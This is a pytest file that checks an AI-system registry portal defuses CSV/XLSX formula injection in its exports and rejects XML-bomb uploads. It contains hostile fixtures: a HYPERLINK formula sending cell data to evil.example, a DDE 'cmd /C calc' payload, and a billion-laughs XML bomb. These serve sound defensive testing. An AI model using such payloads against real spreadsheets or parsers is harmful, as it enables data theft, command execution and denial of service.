"""Exports never hand a spreadsheet a formula typed by a user (CSV/formula injection).

A system, party or risk named `=HYPERLINK(...)` would run as a formula in the Excel of whoever opens
an export. CSV cells are prefixed with an apostrophe; XLSX cells are typed text. An exported CSV
re-imports with its original values.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kzai.core.roles import Role
from kzai.core.spreadsheets import csv_cell, imported_cell
from registry import transfer
from registry.models import AISystem
from tests.factories import AISystemFactory, RiskFactory

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_are_neutralised_and_restored(value):
    assert csv_cell(value) == "'" + value
    assert imported_cell(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["Credit scoring", "", "'quoted", 12, None, "a=b"])
def test_plain_cells_are_unchanged(value):
    assert csv_cell(value) == value


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_system_export_neutralises_formulas(org, make_member, web_for):
    AISystemFactory(organization=org, name=PAYLOAD, business_unit="-2+3")
    web = web_for(make_member(Role.OFFICER))
    rows = _csv_rows(web.get(reverse("registry:system_export")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOAD in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    xlsx = _xlsx_cells(web.get(reverse("registry:system_export") + "?format=xlsx"))
    named = [cell for cell in xlsx if cell.value == PAYLOAD]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not any(cell.data_type == "f" for cell in xlsx)


def test_xlsx_text_that_looks_like_an_error_value_or_holds_control_characters_stays_text(
    org, make_member, web_for
):
    AISystemFactory(organization=org, name="#N/A", business_unit="Unit\x07 7", description="=")
    web = web_for(make_member(Role.OFFICER))
    xlsx = _xlsx_cells(web.get(reverse("registry:system_export") + "?format=xlsx"))
    texts = {cell.value: cell.data_type for cell in xlsx}
    assert texts["#N/A"] == "s" and texts["="] == "s"
    assert "Unit 7" in texts and not any(cell.data_type in ("e", "f") for cell in xlsx)


def test_exported_csv_reimports_with_the_original_values(org, other_org, make_member, web_for):
    AISystemFactory(organization=org, code="EVIL-1", name=PAYLOAD)
    web = web_for(make_member(Role.OFFICER))
    content = b"".join(web.get(reverse("registry:system_export")).streaming_content)
    result = transfer.import_systems(organization=other_org, filename="x.csv", content=content, dry_run=False)
    assert result.ok, result.as_dict()["rows"]
    assert AISystem.objects.get(organization=other_org, code="EVIL-1").name == PAYLOAD


def test_risk_export_neutralises_formulas(org, make_member, web_for):
    RiskFactory(system=AISystemFactory(organization=org), title="@cmd|' /C calc'!A0")
    web = web_for(make_member(Role.OFFICER))
    rows = _csv_rows(web.get(reverse("risk:register_risk_export")))
    assert "'@cmd|' /C calc'!A0" in rows[1]
    xlsx = _xlsx_cells(web.get(reverse("risk:register_risk_export") + "?format=xlsx"))
    assert not any(cell.data_type == "f" for cell in xlsx)
    assert any(cell.value == "@cmd|' /C calc'!A0" and cell.data_type == "s" for cell in xlsx)


def test_names_with_quotes_and_commas_survive_the_round_trip(org, other_org, make_member, web_for):
    AISystemFactory(organization=org, code="QUOTED-1", name='Скоринг ТОО "Алма, Ата"', business_unit="")
    web = web_for(make_member(Role.OFFICER))
    content = b"".join(web.get(reverse("registry:system_export")).streaming_content)
    result = transfer.import_systems(organization=other_org, filename="x.csv", content=content, dry_run=False)
    assert result.ok, result.as_dict()["rows"]
    assert AISystem.objects.get(organization=other_org, code="QUOTED-1").name == 'Скоринг ТОО "Алма, Ата"'


def test_uploaded_xlsx_is_parsed_with_defusedxml():
    # openpyxl guards against XML bombs and external entities only when defusedxml is installed.
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_an_xml_bomb_in_an_xlsx_is_refused(org):
    import zipfile

    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol3;</workbook>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", bomb)
        archive.writestr("xl/workbook.xml", bomb)
    with pytest.raises(transfer.ImportFileError):
        transfer.import_systems(
            organization=org, filename="bomb.xlsx", content=buffer.getvalue(), dry_run=True
        )
    assert not AISystem.objects.exists()


# -- every export of the portal, found by walking it --------------------------------------------------
FORMATS = ("csv", "xlsx")
FORMAT_PARAMETERS = ("format", "export")
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")
PARTY_PAYLOAD = "=1+2"
RISK_PAYLOAD = "@cmd|' /C calc'!A0"


def _system_through_the_api(client):
    """A system named with a formula, linked to a party named with one: created as a user would."""
    created = client.post(
        reverse("system-list"),
        {
            "code": "EVIL-1",
            "name": PAYLOAD,
            "intended_purpose": "Scores loan applications.",
            "organization_role": "owner",
            "sector": "banking",
            "business_unit": "-2+3",
        },
        format="json",
    )
    assert created.status_code == 201, created.content
    party = client.post(
        reverse("party-list"),
        {"name": PARTY_PAYLOAD, "kind": "foreign_company", "country": "LU"},
        format="json",
    )
    assert party.status_code == 201, party.content
    link = client.post(
        reverse("party-link-list"),
        {"system": created.json()["id"], "party": party.json()["id"], "role": "developer"},
        format="json",
    )
    assert link.status_code == 201, link.content
    return created.json()["id"]


def _risk_through_the_api(client):
    system = _system_through_the_api(client)
    risk = client.post(
        reverse("register-risk-list"),
        {
            "system": system,
            "title": RISK_PAYLOAD,
            "category": "information_security",
            "likelihood": 4,
            "severity": 4,
        },
        format="json",
    )
    assert risk.status_code == 201, risk.content


# (URL name, query parameter choosing csv/xlsx) → (make the data through the API, values expected
# in the file). A new export makes test_every_export_is_listed fail until it is added here, and
# is then fed formulas by test_every_export_neutralises_formulas.
EXPORTS = {
    ("registry:system_export", "format"): (_system_through_the_api, [PAYLOAD, "-2+3", f"{PARTY_PAYLOAD} ("]),
    ("risk:matrix", "export"): (_system_through_the_api, [PAYLOAD]),
    ("risk:register_risk_export", "format"): (_risk_through_the_api, [RISK_PAYLOAD]),
    # The activity log names what changed: the party created with a formula for a name.
    ("activity_list", "export"): (_system_through_the_api, [PARTY_PAYLOAD]),
    # The import template is fixed text (column names and an example row): no user value reaches it,
    # but it goes through the same exporter and is checked for formulas all the same.
    ("registry:system_import_template", "format"): (None, []),
}


def _is_spreadsheet(response, fmt=None) -> bool:
    types = {"csv": SPREADSHEET_TYPES[:1], "xlsx": SPREADSHEET_TYPES[1:], None: SPREADSHEET_TYPES}[fmt]
    return response.status_code == 200 and response.get("Content-Type", "").startswith(types)


def _export_links(page_path: str, html: str):
    """(URL name, parameter) of every link on a page that asks for a CSV or XLSX file."""
    import re
    from urllib.parse import parse_qs, urlsplit

    from django.urls import Resolver404, resolve

    for href in re.findall(r'href="([^"]+)"', html):
        parts = urlsplit(href.replace("&amp;", "&"))
        query = parse_qs(parts.query)
        for parameter in FORMAT_PARAMETERS:
            if set(query.get(parameter, [])) & set(FORMATS):
                try:
                    yield resolve(parts.path or page_path).view_name, parameter
                except Resolver404:
                    continue


def _exports_of(get, name, url):
    """(name, parameter) for each parameter that turns this URL into an XLSX download; (name, None)
    for a URL that answers a spreadsheet however it is asked (an export this list cannot name)."""
    switches = {p for p in FORMAT_PARAMETERS if _is_spreadsheet(get(url, {p: "xlsx"}), "xlsx")}
    if switches:
        return {(name, parameter) for parameter in switches}
    asked = [get(url, {p: fmt}) for p in FORMAT_PARAMETERS for fmt in FORMATS] + [get(url)]
    return {(name, None)} if any(_is_spreadsheet(response) for response in asked) else set()


def test_every_export_is_listed(org, make_member, web_for, api_for):
    """Every page and API list that answers a spreadsheet, or that a page links to for one."""
    from django.urls import get_resolver

    from tests.core.test_coverage import _walk
    from tests.security.test_pages import NAMES, _url
    from tests.security.world import build_world

    world = build_world(org)
    web, client = web_for(world.admin), api_for(world.admin)
    found, linked = set(), set()
    for name in NAMES:
        url = _url(name, world)
        page = web.get(url)
        if page.status_code == 200 and page.get("Content-Type", "").startswith("text/html"):
            linked.update(_export_links(url, page.content.decode()))
        found |= _exports_of(web.get, name, url)
    for route, name in _walk(get_resolver().url_patterns):
        if route.startswith("api/v1/") and name.endswith("-list"):
            found |= _exports_of(client.get, name, reverse(name))
    assert found == set(EXPORTS), f"exports not listed in EXPORTS: {found - set(EXPORTS)}"
    assert linked <= found, f"links to spreadsheets that are not exports: {linked - found}"


def _cells(response, fmt):
    """(value, is_formula) of every cell of every sheet, read back as a spreadsheet would."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert body.startswith(b"\xef\xbb\xbf"), "a CSV export starts with a BOM so Excel reads UTF-8"
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        # A CSV cell is a formula to a spreadsheet when it starts with one of these characters.
        return [(value, value.startswith(("=", "+", "-", "@", "\t", "\r"))) for row in rows for value in row]
    workbook = load_workbook(io.BytesIO(body))
    return [
        (cell.value, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("export", sorted(EXPORTS), ids=lambda e: f"{e[0]}?{e[1]}")
def test_every_export_neutralises_formulas(export, fmt, org, make_member, web_for, api_for):
    name, parameter = export
    seed, expected = EXPORTS[export]
    officer = make_member(Role.OFFICER)
    if seed is not None:
        seed(api_for(officer))
    response = web_for(officer).get(reverse(name), {parameter: fmt})
    assert _is_spreadsheet(response, fmt), response.status_code
    cells = _cells(response, fmt)
    assert cells, "the export is empty"
    formulas = [value for value, is_formula in cells if is_formula]
    assert not formulas, f"{name} writes live formulas: {formulas}"
    for value in expected:
        # The value is there, shown as the text typed (CSV: after the neutralising apostrophe).
        shown = ("'" + value) if fmt == "csv" else value
        assert any(str(cell).startswith(shown) for cell, _f in cells), (value, cells)


def test_no_export_bypasses_the_one_exporter():
    """Only kzai/core/spreadsheets.py writes CSV or XLSX; every view returns its export_response()."""
    from django.conf import settings

    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(", "text/csv", "spreadsheetml")
    exporter = settings.BASE_DIR / "kzai" / "core" / "spreadsheets.py"
    offenders = []
    for path in settings.BASE_DIR.rglob("*.py"):
        relative = path.relative_to(settings.BASE_DIR)
        if relative.parts[0] in (".venv", "tests", "scripts") or "migrations" in relative.parts:
            continue
        if relative == Path("kzai/settings.py"):
            continue  # names the media types accepted for uploaded documents; it writes nothing
        if path != exporter and any(writer in path.read_text(encoding="utf-8") for writer in writers):
            offenders.append(str(relative))
    assert not offenders, f"exports written outside kzai.core.spreadsheets: {offenders}"
